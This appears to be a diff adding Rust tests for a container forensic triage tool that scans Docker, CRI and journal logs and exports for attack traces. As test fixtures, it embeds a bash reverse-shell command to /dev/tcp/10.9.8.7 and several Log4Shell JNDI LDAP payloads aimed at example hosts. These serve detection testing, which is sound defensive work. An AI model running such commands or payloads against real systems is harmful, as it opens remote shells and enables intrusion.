@@ -145,6 +145,7 @@ fn a_report_saved_inside_the_bundle_is_not_evidence() {
         [("access.log", "text-log"), ("report.json", "ctriage-report"), ("report.txt", "ctriage-report")]
     );
     assert_eq!(b["log_hits"].as_array().unwrap().len(), hits, "the reports' quoted payloads are no hits");
+    assert!(b["artifacts"][1]["note"].as_str().unwrap().contains("never read back as evidence"));
     assert_eq!(b["findings"], first["bundles"][0]["findings"]);
 }
 
@@ -417,4 +418,173 @@ fn local_driver_logs_are_decoded() {
     assert_eq!(code & 2, 2);
     let d = v["bundles"][0]["diagnostics"].to_string();
     assert!(d.contains("local log driver file corrupt after 3 entries"), "{d}");
+}
+
+#[test]
+fn diff_image_is_the_analysts_word_with_a_warning_when_unrelated() {
+    let s = crate::util::root().join("samples");
+    let export = s.join("log4shell/export.tar");
+    // The dvwa image is not what the log4shell container ran from: diffed as asked, and said.
+    let other = s.join("dvwa/image.tar");
+    let (v, _) = run_json(&["diff", "--image", other.to_str().unwrap(), export.to_str().unwrap()]);
+    let d = v["container_changes"]["base"]["description"].as_str().unwrap();
+    assert!(d.contains("given with diff --image"), "{d}");
+    let warned = v["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|x| x["message"].as_str().unwrap().contains("may not be the image this container ran from"));
+    assert!(warned, "{:#}", v["diagnostics"]);
+}
+
+#[test]
+fn journalctl_json_lines_are_journal_entries() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = br#"{"__CURSOR":"s=1","__REALTIME_TIMESTAMP":"1764252000000000","PRIORITY":"3","CONTAINER_ID":"69cb52f58d00","CONTAINER_NAME":"web","MESSAGE":"sh -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'"}
+"#;
+    write_files(dir.path(), &[("web.json", log)]);
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    assert_eq!(b["artifacts"][0]["kind"], "journal-export");
+    let h = &b["log_hits"][0];
+    assert_eq!(h["stream"], "stderr");
+    assert_eq!(h["time"], "2025-11-27T14:00:00.000000000Z");
+}
+
+#[test]
+fn logs_inside_a_tar_keep_their_framing() {
+    // An export holding a CRI log (`P` parts to join), a local-driver file and a native
+    // journal file (not decodable here: said so).
+    let cri = b"2026-11-27T14:00:01.000000000Z stdout P GET /?q=${jn\n2026-11-27T14:00:01.000000001Z stderr F other\n2026-11-27T14:00:01.000000002Z stdout F di:ldap://cri-in-tar.example/a}\n";
+    let local =
+        local_entry("stdout", 1_764_252_000_000_000_000, b"x=${jndi:ldap://local-in-tar.example/a}\n", false);
+    let mut t = tar::Builder::new(Vec::new());
+    for (name, data) in [
+        (".dockerenv", &b""[..]),
+        ("etc/passwd", &b"root:x:0:0::/root:/bin/sh\n"[..]),
+        ("usr/bin/true", &b"x"[..]),
+        ("var/log/pods/ns_web_1/web/0.log", &cri[..]),
+        ("var/lib/docker/containers/abc/local-logs/container.log", &local[..]),
+        ("var/log/journal/0123/system.journal", &b"LPKSHHRH\0\0\0"[..]),
+    ] {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        t.append_data(&mut h, name, data).unwrap();
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let p = dir.path().join("export.tar");
+    std::fs::write(&p, t.into_inner().unwrap()).unwrap();
+    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    let hosts: Vec<(String, u64)> = b["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|h| h["rule"].as_str().unwrap().contains("jndi"))
+        .map(|h| (h["excerpt"].as_str().unwrap().to_string(), h["locator"]["line"].as_u64().unwrap()))
+        .collect();
+    assert!(hosts.iter().any(|(e, l)| e.contains("cri-in-tar.example") && *l == 1), "{hosts:?}");
+    assert!(hosts.iter().any(|(e, _)| e.contains("local-in-tar.example")), "{hosts:?}");
+    let msgs = b["diagnostics"].to_string();
+    assert!(msgs.contains("1 systemd journal file(s) in their native binary format not read"), "{msgs}");
+}
+
+#[test]
+fn an_inspect_naming_the_image_id_pairs_a_much_changed_export() {
+    use crate::image_build::{export, sha, step, Image, Layer};
+    let base = Layer::new()
+        .dir("etc")
+        .file("etc/a.conf", b"a=1\n")
+        .file("etc/b.conf", b"b=1\n")
+        .file("etc/c.conf", b"c=1\n")
+        .dir("usr")
+        .dir("usr/bin")
+        .file("usr/bin/tool", b"\x7fELF tool")
+        .build();
+    let img = Image::new("shop/tool:1").layer(base, step("2026-01-01T00:00:00Z", "ADD rootfs /"));
+    // The container rewrote three of the four files: 25% unchanged, below the threshold.
+    let exp = export(
+        Layer::new()
+            .dir("etc")
+            .file("etc/a.conf", b"a=2\n")
+            .file("etc/b.conf", b"b=2\n")
+            .file("etc/c.conf", b"c=2\n")
+            .dir("usr")
+            .dir("usr/bin")
+            .file("usr/bin/tool", b"\x7fELF tool"),
+    );
+    let id = format!("sha256:{}", sha(img.config().as_bytes()));
+    let inspect = format!(
+        r#"[{{"Id":"abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789","Name":"/tool","Image":"{id}","State":{{"Running":true}},"Config":{{"Image":"shop/tool:1"}},"HostConfig":{{}}}}]"#
+    );
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("image.tar"), img.docker_save()).unwrap();
+    std::fs::write(dir.path().join("export.tar"), &exp).unwrap();
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    assert!(v["bundles"][0]["container_changes"].is_null(), "25% alone does not pair them");
+    std::fs::write(dir.path().join("inspect.json"), inspect).unwrap();
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let d = v["bundles"][0]["container_changes"]["base"]["description"].as_str().unwrap().to_string();
+    assert!(d.contains("a container inspect in the bundle names its image id"), "{d}");
+}
+
+#[test]
+fn a_partial_record_continues_into_the_next_rotated_file_of_the_same_container_only() {
+    let dir = tempfile::tempdir().unwrap();
+    let pad = "x".repeat(16 * 1024);
+    let part = format!(
+        "{{\"log\":\"ok\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T13:59:59Z\"}}\n{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n"
+    );
+    let rest = "{\"log\":\"di:ldap://rotated.example/a}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:01Z\"}\n";
+    let other = "{\"log\":\"di:ldap://other.example/a}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:01Z\"}\n";
+    let c = "c0ffee";
+    write_files(
+        dir.path(),
+        &[
+            (&format!("{c}/{c}-json.log.1"), part.as_bytes()),
+            (&format!("{c}/{c}-json.log"), rest.as_bytes()),
+            // Another container's log starting with the same kind of tail: never joined.
+            ("beef/beef-json.log", other.as_bytes()),
+        ],
+    );
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let hits: Vec<(String, u64, String)> = v["bundles"][0]["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|h| h["rule"].as_str().unwrap().contains("jndi"))
+        .map(|h| {
+            (
+                h["locator"]["artifact"].as_str().unwrap().to_string(),
+                h["locator"]["line"].as_u64().unwrap(),
+                h.to_string(),
+            )
+        })
+        .collect();
+    assert_eq!(hits.len(), 1, "{hits:?}");
+    assert_eq!(hits[0].0, format!("{c}/{c}-json.log.1"));
+    assert_eq!(hits[0].1, 2, "the line where the message starts, in the older file");
+    assert!(hits[0].2.contains("rotated.example"), "{}", hits[0].2);
+}
+
+#[test]
+fn kubelet_rotated_cri_logs_are_read_oldest_first_and_joined() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[
+            ("pods/ns_web_1/web/0.log.20261127-140000", b"2026-11-27T13:59:59.000000001Z stdout F start\n2026-11-27T14:00:00.000000001Z stdout P GET /?q=${jn\n"),
+            ("pods/ns_web_1/web/0.log", b"2026-11-27T14:00:00.000000002Z stdout F di:ldap://kubelet.example/a}\n"),
+        ],
+    );
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    let kinds: Vec<&str> =
+        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
+    assert_eq!(kinds, ["cri-log", "cri-log"]);
+    let h: Vec<String> = b["log_hits"].as_array().unwrap().iter().map(|h| h.to_string()).collect();
+    assert_eq!(h.len(), 1, "{h:?}");
+    assert!(h[0].contains("kubelet.example") && h[0].contains("0.log.20261127-140000"), "{}", h[0]);
 }
